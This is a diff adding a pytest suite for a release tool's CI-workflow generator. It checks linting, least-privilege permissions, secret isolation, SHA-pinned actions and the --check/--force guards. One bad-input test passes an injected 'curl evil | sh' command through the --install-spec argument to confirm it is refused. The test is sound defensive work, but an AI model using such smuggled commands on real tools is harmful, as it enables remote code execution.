@@ -1,0 +1,350 @@
+"""`orchestrator ci github|gitlab`: the generated CI files pass actionlint, zizmor and the
+GitLab CI schema, keep secrets in the assemble job, and `--check`/`--force` guard them."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+from ruamel.yaml import YAML
+from typer.testing import CliRunner, Result
+
+from orchestrator.cli import app
+from orchestrator.config.resources import repository_root
+from orchestrator.supply.workflows import ACTIONS, CI_SECRETS, WorkflowFileError
+
+runner = CliRunner()
+BIN = Path(sys.executable).parent  # the virtualenv's bin: actionlint, zizmor, check-jsonschema
+
+
+def cli(*args: str) -> Result:
+    return runner.invoke(app, list(args))
+
+
+def _tool(name: str, *args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
+    path = BIN / name
+    assert path.is_file(), f"{name} is missing: `make` installs it with the dev extra"
+    return subprocess.run(
+        [str(path), *args], capture_output=True, text=True, cwd=cwd, check=False, timeout=120
+    )
+
+
+def _yaml(path: Path) -> Any:
+    return YAML(typ="safe").load(path.read_text())
+
+
+def _lint_github(path: Path) -> None:
+    linted = _tool("actionlint", "-no-color", str(path))
+    assert linted.returncode == 0, linted.stdout + linted.stderr
+    # zizmor's offline audits, every one (pedantic): no finding and no ignore comment
+    audited = _tool("zizmor", "--offline", "--pedantic", "--no-progress", str(path))
+    assert audited.returncode == 0, audited.stdout + audited.stderr
+    assert "zizmor: ignore" not in path.read_text()
+
+
+def _validate_gitlab(path: Path) -> None:
+    checked = _tool("check-jsonschema", "--builtin-schema", "vendor.gitlab-ci", str(path))
+    assert checked.returncode == 0, checked.stdout + checked.stderr
+
+
+@pytest.fixture
+def own_config() -> Path:
+    root = repository_root()
+    assert root is not None
+    return root / "orchestrator.toml"
+
+
+@pytest.fixture
+def gpu_project(project: Path) -> Path:
+    """The unit tests' project with cpu (two levels) and cuda on a GPU runner, in a git
+    repository of its own (so that is where the files go)."""
+    (project / ".git").mkdir()
+    (project / "orchestrator.toml").write_text(
+        '[package]\ncrate = "crate"\n'
+        '[build]\nflavors = ["cpu", "cuda"]\n'
+        '[flavors.cpu]\nlevels = ["x86-64-v2", "x86-64-v3"]\n'
+        '[ci]\nrunners = ["cuda=self-hosted", "cuda=gpu", "cuda=linux"]\n'
+        '[train]\nworkloads = [["--help"]]\n'
+    )
+    return project
+
+
+def _jobs(document: Any) -> dict[str, Any]:
+    jobs = document["jobs"]
+    assert isinstance(jobs, dict)
+    return jobs
+
+
+def test_github_workflow_for_this_repository_passes_actionlint_and_zizmor(
+    tmp_path: Path, own_config: Path
+) -> None:
+    out = tmp_path / "release.yml"
+    result = cli("ci", "github", "--config", str(own_config), "--output", str(out))
+    assert result.exit_code == 0, result.output
+    _lint_github(out)
+    document = _yaml(out)
+    assert document["permissions"] == {}
+    assert document["on"]["push"]["tags"] == ["v*"]
+    jobs = _jobs(document)
+    assert list(jobs) == ["plan", "build", "assemble"]
+    assert jobs["build"]["strategy"]["matrix"]["target"] == (
+        "${{ fromJSON(needs.plan.outputs.targets) }}"
+    )
+    assert jobs["build"]["runs-on"] == "${{ matrix.target.runner }}"
+    for name, job in jobs.items():  # least privilege, job by job
+        expected = {"contents": "write"} if name == "assemble" else {"contents": "read"}
+        assert job["permissions"] == expected, name
+    text = out.read_text()
+    assert "rust-release-orchestrator==" in text
+    # every action pinned by full commit SHA, with the release it is in a comment
+    uses = re.findall(r"uses: (\S+)@(\S+) # (v[0-9.]+)", text)
+    assert len(uses) == text.count("uses:") >= 10
+    pins = {(repo, sha, version) for repo, sha, version in ACTIONS.values()}
+    for action, sha, version in uses:
+        owner_repo = "/".join(action.split("/")[:2])
+        assert (owner_repo, sha, version) in pins, action
+        assert re.fullmatch(r"[0-9a-f]{40}", sha)
+
+
+def test_github_workflow_keeps_secrets_and_expressions_out_of_scripts(
+    tmp_path: Path, own_config: Path
+) -> None:
+    out = tmp_path / "release.yml"
+    assert cli("ci", "github", "-c", str(own_config), "-o", str(out)).exit_code == 0
+    jobs = _jobs(_yaml(out))
+    for name, job in jobs.items():
+        for step in job["steps"]:
+            if "run" in step:
+                assert "${{" not in step["run"], (name, step["run"])
+            env = json.dumps(step.get("env", {}))
+            if name != "assemble":
+                assert "secrets." not in env, name
+            if "actions/checkout" in step.get("uses", ""):
+                assert step["with"]["persist-credentials"] is False
+    secret_steps = [
+        step for step in jobs["assemble"]["steps"] if "secrets." in json.dumps(step.get("env", {}))
+    ]
+    assert [step["name"] for step in secret_steps] == ["Assemble and sign the release"]
+    assert f"secrets.{CI_SECRETS['key']}" in json.dumps(secret_steps[0]["env"])
+    # the key is written outside the checkout and removed when the step ends
+    assert "trap 'rm -f \"$key\"' EXIT" in secret_steps[0]["run"]
+    assert jobs["assemble"]["if"] == "github.ref_type == 'tag'"
+    upload = jobs["assemble"]["steps"][-1]
+    assert upload["env"]["GH_TOKEN"] == "${{ github.token }}"  # noqa: S105 - an expression
+    for name in ("SHA256SUMS", "install.sh", "release.lock", "provenance.intoto.jsonl"):
+        assert name in upload["run"]
+    assert "gh release upload" in upload["run"]
+
+
+def test_a_gpu_runner_label_reaches_the_matrix(tmp_path: Path, gpu_project: Path) -> None:
+    out = tmp_path / "release.yml"
+    result = cli("ci", "github", "-c", str(gpu_project / "orchestrator.toml"), "-o", str(out))
+    assert result.exit_code == 0, result.output
+    _lint_github(out)
+    plan = next(s for s in _jobs(_yaml(out))["plan"]["steps"] if s.get("id") == "plan")
+    assert json.loads(plan["env"]["RUNNERS"]) == {"cuda": ["self-hosted", "gpu", "linux"]}
+
+
+def test_the_plan_step_emits_one_matrix_entry_per_target(
+    tmp_path: Path, gpu_project: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The plan job's script, run here against the real dry run (Docker unreachable: the
+    plan needs none): the matrix lists every target with its runner labels."""
+    out = tmp_path / "release.yml"
+    assert (
+        cli("ci", "github", "-c", str(gpu_project / "orchestrator.toml"), "-o", str(out)).exit_code
+        == 0
+    )
+    step = next(s for s in _jobs(_yaml(out))["plan"]["steps"] if s.get("id") == "plan")
+    temp = tmp_path / "runner-temp"
+    temp.mkdir()
+    output = temp / "github-output"
+    env = {
+        **os.environ,
+        "PATH": f"{BIN}{os.pathsep}{os.environ['PATH']}",
+        "DOCKER_HOST": f"unix://{tmp_path}/no-docker.sock",
+        "ORCHESTRATOR_CONFIG": str(gpu_project / "orchestrator.toml"),
+        "ORCHESTRATOR_CACHE_DIR": str(tmp_path / "cache"),
+        "RUNNER_TEMP": str(temp),
+        "GITHUB_OUTPUT": str(output),
+        "GITHUB_REF_TYPE": "tag",
+        "GITHUB_REF_NAME": "v1.2.3",
+        "RUNNERS": step["env"]["RUNNERS"],
+    }
+    # actions/setup-python puts `python` on PATH: this virtualenv's stands in for it
+    ran = subprocess.run(
+        ["bash", "-e", "-c", step["run"]],
+        env=env,
+        cwd=gpu_project,
+        capture_output=True,
+        text=True,
+        check=False,
+        timeout=300,
+    )
+    assert ran.returncode == 0, ran.stdout + ran.stderr
+    line = output.read_text().strip()
+    assert line.startswith("targets=")
+    targets = json.loads(line.removeprefix("targets="))
+    assert [(t["flavor"], t["level"], t["runner"]) for t in targets] == [
+        ("cpu", "x86-64-v2", ["ubuntu-latest"]),
+        ("cpu", "x86-64-v3", ["ubuntu-latest"]),
+        ("cuda", "x86-64-v2", ["self-hosted", "gpu", "linux"]),
+    ]
+    assert all(t["artifact"].startswith("demo-1.2.3-linux-x86_64-") for t in targets)
+    # a tag that is not the version the config releases stops the pipeline there
+    env["GITHUB_REF_NAME"] = "v9.9.9"
+    refused = subprocess.run(
+        ["bash", "-e", "-c", step["run"]],
+        env=env,
+        cwd=gpu_project,
+        capture_output=True,
+        text=True,
+        check=False,
+        timeout=300,
+    )
+    assert refused.returncode == 1
+    assert "::error::tag v9.9.9 is not v1.2.3" in refused.stdout
+
+
+def test_gitlab_file_validates_against_the_gitlab_ci_schema(
+    tmp_path: Path, own_config: Path, gpu_project: Path
+) -> None:
+    own = tmp_path / "own.gitlab-ci.yml"
+    assert cli("ci", "gitlab", "-c", str(own_config), "-o", str(own)).exit_code == 0
+    _validate_gitlab(own)
+    gpu = tmp_path / "gpu.gitlab-ci.yml"
+    result = cli("ci", "gitlab", "-c", str(gpu_project / "orchestrator.toml"), "-o", str(gpu))
+    assert result.exit_code == 0, result.output
+    _validate_gitlab(gpu)
+    document = _yaml(gpu)
+    assert document["stages"] == ["plan", "build", "assemble"]
+    assert document["build-cuda"]["tags"] == ["self-hosted", "gpu", "linux"]
+    assert "tags" not in document["build-cpu"]
+    assert document["build-cpu"]["parallel"]["matrix"] == [{"LEVEL": ["x86-64-v2", "x86-64-v3"]}]
+    assert document["build-cpu"]["services"][0]["name"].endswith("-dind")
+    assert document["variables"]["EXPECTED_TARGETS"].split("\n") == [
+        "cpu x86-64-v2",
+        "cpu x86-64-v3",
+        "cuda x86-64-v2",
+    ]
+    # only the assemble job names the key
+    for name, job in document.items():
+        if isinstance(job, dict) and "script" in job:
+            names_key = CI_SECRETS["key"] in json.dumps(job)
+            assert names_key == (name == "assemble"), name
+
+
+def test_default_output_is_at_the_repository_root(
+    gpu_project: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(gpu_project / "crate")
+    result = cli("ci", "github")  # the config is found upwards, the file goes to the root
+    assert result.exit_code == 0, result.output
+    written = gpu_project / ".github" / "workflows" / "release.yml"
+    assert written.is_file()
+    assert "orchestrator ci github`" in written.read_text()
+    assert cli("ci", "gitlab").exit_code == 0
+    assert (gpu_project / ".gitlab-ci.yml").is_file()
+
+
+def test_check_and_force(tmp_path: Path, gpu_project: Path) -> None:
+    config = str(gpu_project / "orchestrator.toml")
+    out = tmp_path / "release.yml"
+    missing = cli("ci", "github", "-c", config, "-o", str(out), "--check")
+    assert missing.exit_code == WorkflowFileError.exit_code == 67
+    assert "does not exist" in missing.output
+    assert not out.exists()
+    assert cli("ci", "github", "-c", config, "-o", str(out)).exit_code == 0
+    current = cli("ci", "github", "-c", config, "-o", str(out), "--check")
+    assert current.exit_code == 0
+    assert "up to date" in current.output
+    # the config changes: the file is stale, and is not overwritten without --force
+    text = (gpu_project / "orchestrator.toml").read_text()
+    (gpu_project / "orchestrator.toml").write_text(text.replace('"cuda=linux"', '"cuda=a100"'))
+    before = out.read_text()
+    stale = cli("ci", "github", "-c", config, "-o", str(out), "--check")
+    assert stale.exit_code == 67
+    assert "stale" in stale.output
+    kept = cli("ci", "github", "-c", config, "-o", str(out))
+    assert kept.exit_code == 67
+    assert "--force" in kept.output
+    assert out.read_text() == before
+    forced = cli("ci", "github", "-c", config, "-o", str(out), "--force")
+    assert forced.exit_code == 0
+    assert "a100" in out.read_text()
+    # the same options give the same bytes
+    assert cli("ci", "github", "-c", config, "-o", str(out), "--check").exit_code == 0
+
+
+def test_install_spec_and_public_key_are_written_and_checked(
+    tmp_path: Path, gpu_project: Path
+) -> None:
+    config = str(gpu_project / "orchestrator.toml")
+    (gpu_project / "minisign.pub").write_text("untrusted comment: x\nRWQ\n")
+    out = tmp_path / "release.yml"
+    spec = "rust-release-orchestrator @ git+https://example.com/orchestrator@v0.1.0"
+    result = cli(
+        "ci", "github", "-c", config, "-o", str(out), "--install-spec", spec,
+        "--public-key", str(gpu_project / "minisign.pub"),
+    )  # fmt: skip
+    assert result.exit_code == 0, result.output
+    _lint_github(out)
+    text = out.read_text()
+    assert f'ORCHESTRATOR_INSTALL: "{spec}"' in text
+    assert 'orchestrator verify "$RELEASE_DIR" --key minisign.pub' in text
+    assert "--public-key minisign.pub" in text  # the command that writes it again
+
+
+@pytest.mark.parametrize(
+    ("args", "code", "words"),
+    [
+        (["ci", "jenkins"], 2, "jenkins"),
+        (["ci", "github", "--install-spec", 'x"; curl evil | sh; "'], 10, "--install-spec"),
+        (["ci", "github", "--public-key", "no-such.pub"], 10, "no-such.pub"),
+    ],
+)
+def test_bad_input_is_refused_with_its_exit_code(
+    gpu_project: Path, tmp_path: Path, args: list[str], code: int, words: str
+) -> None:
+    result = cli(*args, "-c", str(gpu_project / "orchestrator.toml"), "-o", str(tmp_path / "x.yml"))
+    assert result.exit_code == code, result.output
+    assert words in result.output
+    assert "Traceback" not in result.output
+    assert not (tmp_path / "x.yml").exists()
+
+
+def test_an_unwritable_output_is_refused(tmp_path: Path, gpu_project: Path) -> None:
+    blocker = tmp_path / "file"
+    blocker.write_text("a file where a folder should be\n")
+    result = cli(
+        "ci", "gitlab", "-c", str(gpu_project / "orchestrator.toml"),
+        "-o", str(blocker / "sub" / ".gitlab-ci.yml"),
+    )  # fmt: skip
+    assert result.exit_code == 67, result.output
+    assert "cannot write" in result.output
+    assert "hint:" in result.output
+
+
+@pytest.mark.parametrize(
+    ("runners", "words"),
+    [
+        ('["cuda"]', "is not FLAVOR=LABEL"),
+        ('["cuda=has space"]', "is not FLAVOR=LABEL"),
+        ('["cdua=gpu"]', "did you mean 'cuda'"),
+    ],
+)
+def test_a_bad_runner_setting_is_a_config_error(
+    gpu_project: Path, tmp_path: Path, runners: str, words: str
+) -> None:
+    path = gpu_project / "orchestrator.toml"
+    path.write_text(re.sub(r"runners = \[.*\]", f"runners = {runners}", path.read_text()))
+    result = cli("ci", "github", "-c", str(path), "-o", str(tmp_path / "x.yml"))
+    assert result.exit_code == 10, result.output
+    assert words in result.output
+    assert "ci.runners" in result.output
